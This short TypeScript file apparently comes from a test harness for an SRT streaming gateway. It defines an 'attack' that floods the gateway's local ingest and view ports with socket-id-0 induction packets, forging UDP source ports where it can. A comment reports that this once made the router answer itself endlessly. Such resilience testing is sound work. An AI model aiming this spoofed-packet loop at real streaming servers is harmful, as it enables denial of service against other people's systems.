import { setTimeout as sleep } from 'node:timers/promises';
import { buildInductionOf, rawPeer } from '../../gateway/srt-peers';
import { canForgeUdp, forgeUdp } from '../../network/forge-udp';
import type { Attack } from '../attack';

const pauseMs = 500;

/** One of them made the router answer itself for ever. Without the right to forge, they come from a real source. */
export const datagramsOfOwnPorts: Attack = {
  name: 'inductions of socket id 0 that seem to come from the other port, from the same one, and from port 0',
  run: async ({ ingestPort, viewPort }, signal) => {
    const payload = buildInductionOf(0);
    const ports = [ingestPort, viewPort];
    if (!(await canForgeUdp())) {
      const peers = await Promise.all(ports.map((port) => rawPeer(port)));
      for (; !signal.aborted; await sleep(pauseMs)) for (const { send } of peers) send(payload);
      for (const { close } of peers) close();
      return;
    }
    for (; !signal.aborted; await sleep(pauseMs)) {
      for (const targetPort of ports) {
        for (const port of [...ports, 0])
          await forgeUdp({ source: { address: '127.0.0.1', port }, targetPort, payload });
      }
    }
  },
};
